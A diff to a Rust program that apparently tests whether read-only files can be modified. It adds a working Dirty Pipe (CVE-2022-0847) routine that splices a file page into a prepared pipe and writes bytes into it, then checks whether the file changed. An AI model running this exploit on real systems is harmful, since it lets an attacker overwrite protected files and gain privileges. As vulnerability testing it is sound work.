@@ -159,6 +159,7 @@ pub fn write_otherwise(files: &[&str]) {
             write_by_descriptor(&format!("read-only {file}"), &opened);
             attempt(&format!("mprotect {file}"), map_then_protect(&opened));
             attempt(&format!("/proc/self/mem {file}"), write_memory(&opened));
+            attempt(&format!("pipe {file}"), write_by_pipe(&opened));
         }
         let _ = fchmodat(AT_FDCWD, *file, ALL, FchmodatFlags::FollowSymlink);
         if let Some(opened) = attempt(
@@ -285,4 +286,45 @@ fn spoil_there(how: &str, file: &str, place: &str) {
         spoil(&opened);
     }
     attempt(&format!("truncate after {how} {file}"), truncate(place, 3));
+}
+
+/// CVE-2022-0847: a pipe's buffer that once was merged into keeps saying so when it
+/// holds a page of a file, and what is written to the pipe lands in that page. The
+/// file's bytes tell whether it did.
+fn write_by_pipe(file: &OwnedFd) -> Result<(), Errno> {
+    use nix::fcntl::{SpliceFFlags, splice};
+    use nix::unistd::{pipe, read, write};
+    let mut before = [0; 9];
+    nix::sys::uio::pread(file, &mut before, 0)?;
+    let (reader, writer) = pipe()?;
+    let size = call_size(&writer)?;
+    let mut page = vec![0_u8; 4096];
+    for _ in 0..size / page.len() {
+        write(&writer, &page)?;
+    }
+    for _ in 0..size / page.len() {
+        read(&reader, &mut page)?;
+    }
+    let mut offset = 0;
+    splice(
+        file,
+        Some(&mut offset),
+        &writer,
+        None,
+        1,
+        SpliceFFlags::empty(),
+    )?;
+    write(&writer, SPOILED)?;
+    let mut after = [0; 9];
+    nix::sys::uio::pread(file, &mut after, 0)?;
+    if before == after {
+        Err(Errno::EPERM)
+    } else {
+        Ok(())
+    }
+}
+
+fn call_size(pipe: &OwnedFd) -> Result<usize, Errno> {
+    let size = nix::fcntl::fcntl(pipe, nix::fcntl::FcntlArg::F_GETPIPE_SZ)?;
+    usize::try_from(size).map_err(|_| Errno::EINVAL)
 }
